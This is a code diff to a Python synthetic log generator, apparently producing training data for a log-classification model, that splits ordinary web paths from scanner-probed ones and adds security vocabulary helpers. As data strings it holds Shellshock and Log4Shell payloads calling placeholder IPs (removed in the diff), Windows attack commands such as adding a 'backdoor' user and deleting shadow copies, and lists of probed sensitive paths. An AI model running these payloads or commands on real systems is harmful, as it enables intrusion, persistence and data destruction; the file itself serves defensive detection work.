@@ -16,6 +16,8 @@ import string
 from collections.abc import Callable, Sequence
 from typing import TypeVar
 
+from logsentry.train.data import attack_vocab
+
 T = TypeVar("T")
 
 _HEX = "0123456789abcdef"
@@ -100,6 +102,13 @@ WEB_FILES = (
     "shell.php", "test.php", "upload.php", "setup.php", "info.php", "server-status", "HEAD",
     "config", "backup.zip", "db.sql", "status", "health", "metrics", "graphql", "search",
 )
+_PROBED_DIRS = frozenset({"wp-admin", "wp-content/uploads", "cgi-bin", "phpmyadmin", "vendor", "old",
+                          "backup", ".git", ".env", "uploads"})
+_PROBED_FILES = frozenset({"wp-login.php", "xmlrpc.php", "admin.php", "config.php", "phpinfo.php", "shell.php",
+                           "test.php", "upload.php", "setup.php", "info.php", "server-status", "HEAD",
+                           "config", "backup.zip", "db.sql"})
+ORDINARY_WEB_DIRS = tuple(d for d in WEB_DIRS if d not in _PROBED_DIRS)
+ORDINARY_WEB_FILES = tuple(f for f in WEB_FILES if f not in _PROBED_FILES)
 QUERY_KEYS = ("id", "page", "q", "s", "user", "lang", "sort", "cat", "ref", "token", "file", "redirect",
               "next", "action", "cmd", "debug", "item", "limit", "offset", "utm_source", "p")
 ATTACK_QUERIES = (
@@ -147,13 +156,10 @@ USER_AGENTS = (
     "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
     "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
     "curl/7.88.1", "curl/8.5.0", "Wget/1.21.3", "python-requests/2.31.0", "Go-http-client/1.1",
-    "Go-http-client/2.0", "sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0",
-    "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
-    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "WPScan v3.8.25 (https://wpscan.com/)",
+    "Go-http-client/2.0",
     "Apache-HttpClient/4.5.14 (Java/17.0.8)", "okhttp/4.12.0", "Java/1.8.0_392", "-",
     "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/124.0.0.0 Mobile Safari/537.36",
-    "() { :; }; /bin/bash -c \"curl http://203.0.113.10/x\"", "${jndi:ldap://203.0.113.44/ua}",
     "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
     "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
     "Prometheus/2.51.0", "kube-probe/1.29", "ELB-HealthChecker/2.0", "Zabbix",
@@ -421,10 +427,12 @@ class Values:
 
     def url_path(self) -> str:
         """A benign request target, often with a query string."""
-        d = self.pick(WEB_DIRS)
+        # Ordinary directories and files only: a probe of `.git` or `shell.php` labelled
+        # `web_request` would teach the model that probes are ordinary requests.
+        d = self.pick(ORDINARY_WEB_DIRS)
         base = f"/{d}/" if d else "/"
         if self.chance(0.7):
-            base += self.pick(WEB_FILES) if self.chance(0.6) else f"{self.alnum(6).lower()}.{self.pick(FILE_EXTENSIONS)}"
+            base += self.pick(ORDINARY_WEB_FILES) if self.chance(0.6) else f"{self.alnum(6).lower()}.{self.pick(FILE_EXTENSIONS)}"
         if self.chance(0.4):
             n = self.rng.randrange(1, 4)
             base += "?" + "&".join(f"{self.pick(QUERY_KEYS)}={self.alnum(self.rng.randrange(1, 9))}"
@@ -880,6 +888,47 @@ class Values:
                           "net user backdoor P@ssw0rd /add", "rundll32.exe C:\\Windows\\Temp\\x.dll,Start",
                           "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\"", "vssadmin delete shadows /all /quiet",
                           "schtasks /create /tn upd /tr C:\\Users\\Public\\u.exe /sc minute"))
+
+    # ---- security vocabularies (compositional, see attack_vocab) ---------------------
+    def probe_url(self) -> str:
+        """A request target that probes or attacks (scanner path, traversal, injection...)."""
+        return attack_vocab.probe_path(self.rng)
+
+    def ordinary_url(self) -> str:
+        return attack_vocab.ordinary_path(self.rng)
+
+    def offensive_agent(self) -> str:
+        return attack_vocab.offensive_agent(self.rng)
+
+    def browser_agent(self) -> str:
+        return attack_vocab.browser_agent(self.rng)
+
+    def ids_signature(self) -> str:
+        return attack_vocab.signature(self.rng)
+
+    def ids_class(self) -> str:
+        return self.pick(attack_vocab.CLASSIFICATIONS)
+
+    def ids_proto(self) -> str:
+        return attack_vocab.ids_proto(self.rng)
+
+    def sid(self) -> str:
+        return str(self.rng.randrange(1000, 3_000_000))
+
+    def blocklist(self) -> str:
+        return self.pick(attack_vocab.BLOCKLISTS)
+
+    def country(self) -> str:
+        return self.pick(attack_vocab.COUNTRIES)
+
+    def rule_name(self) -> str:
+        return self.pick(("INPUT", "FORWARD", "default-deny", "block-inbound", "WAN_IN", "drop-all",
+                          "rule" + self.digits(2), "deny_ssh", "geo-block", "policy " + self.digits(1),
+                          "LAN_LOCAL", "implicit deny", "ACL-" + self.digits(3), "zone-wan"))
+
+    def fw_action(self) -> str:
+        return self.pick(("DROP", "DENY", "BLOCK", "REJECT", "drop", "deny", "block", "reject", "denied",
+                          "dropped", "blocked", "rejected", "Deny", "Drop"))
 
     def generator(self, name: str) -> Callable[[], str]:
         """The bound generator method called `name` (raises AttributeError when unknown)."""
